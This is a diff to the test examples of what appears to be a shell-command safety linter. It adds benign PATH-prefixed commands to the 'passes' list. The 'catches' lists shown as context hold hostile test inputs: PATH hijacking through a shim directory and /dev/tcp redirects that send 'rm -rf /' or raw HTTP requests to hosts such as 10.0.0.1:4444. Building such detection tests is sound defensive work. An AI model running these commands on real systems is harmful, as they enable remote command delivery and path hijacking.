@@ -22,7 +22,16 @@ export const examples: RuleExamples = {
       'PATH=/nonexistent/shim:$PATH ls',
       'export PATH=$1:$PATH; ls',
     ],
-    passes: ['echo "echo hi" | bash', 'bash -c "ls -la"', 'eval "echo hi"', 'bash --version', 'PATH=/usr/local/bin:$PATH ls', 'unset BASH_ENV; bash -c true'],
+    passes: [
+      'echo "echo hi" | bash',
+      'bash -c "ls -la"',
+      'eval "echo hi"',
+      'bash --version',
+      'PATH=/usr/local/bin:$PATH ls',
+      'PATH=node_modules/.bin:$PATH jest --ci',
+      'PATH=.venv/bin:$PATH python -V',
+      'unset BASH_ENV; bash -c true',
+    ],
   },
   'shell/network-redirect': {
     catches: ["echo 'rm -rf /' > /dev/tcp/10.0.0.1/4444", 'exec 3<>/dev/tcp/10.0.0.1/80', "printf 'DELETE /x HTTP/1.0\\r\\n\\r\\n' >/dev/tcp/api.internal/80"],
